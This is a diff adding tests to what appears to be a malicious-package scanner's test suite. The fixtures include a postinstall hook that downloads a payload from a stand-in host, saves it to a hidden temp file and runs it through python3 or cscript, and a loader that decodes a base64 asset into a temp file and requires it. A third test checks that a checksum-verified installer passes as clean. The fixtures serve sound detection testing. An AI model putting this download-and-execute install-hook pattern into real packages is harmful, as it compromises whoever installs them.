@@ -32,3 +32,46 @@ module.exports = (vm) => vm.eval(utf8(65));`,
     ).toBe('clean');
   });
 });
+
+describe('a file written, then run', () => {
+  it('downloaded to a hidden temporary file and run by an interpreter, the paths in a platform table', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
+      'setup.js': `const http = require('http'); const fs = require('fs'); const { execFile } = require('child_process');
+const TABLE = { linux: { src: 'http://updates.example:8000/l', dst: '/tmp/.sync.py', via: ['python3'] },
+  win32: { src: 'http://updates.example:8000/w', dst: 'C:/Users/Public/sync.vbs', via: ['cscript'] } };
+const t = TABLE[process.platform];
+http.get(t.src, (res) => { const parts = []; res.on('data', (c) => parts.push(c));
+  res.on('end', () => { fs.writeFileSync(t.dst, Buffer.concat(parts)); execFile(t.via[0], [t.dst]); }); });`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+  it('decoded from a shipped asset, written to a temporary file and required', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'assets/data.bin': 'cmVxdWlyZSgnb3MnKQ==',
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const blob = fs.readFileSync(path.join(__dirname, 'assets', 'data.bin'), 'utf8');
+const tmp = path.join(os.tmpdir(), '.c' + Date.now() + '.js');
+fs.writeFileSync(tmp, Buffer.from(blob, 'base64'));
+require(tmp);`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('a binary installer that downloads, checks the checksum and runs --version stays quiet', () => {
+    expect(
+      risk({
+        'package.json': pkg(),
+        'install.js': `const https = require('https'); const fs = require('fs'); const crypto = require('crypto');
+const { execFileSync } = require('child_process');
+module.exports = function install(url, sha, dest) {
+  https.get(url, (res) => { const parts = []; res.on('data', (c) => parts.push(c)); res.on('end', () => {
+    const buf = Buffer.concat(parts);
+    if (crypto.createHash('sha256').update(buf).digest('hex') !== sha) throw new Error('checksum mismatch');
+    fs.writeFileSync(dest, buf, { mode: 0o755 }); execFileSync(dest, ['--version']); }); });
+};`,
+      }),
+    ).toBe('clean');
+  });
+});
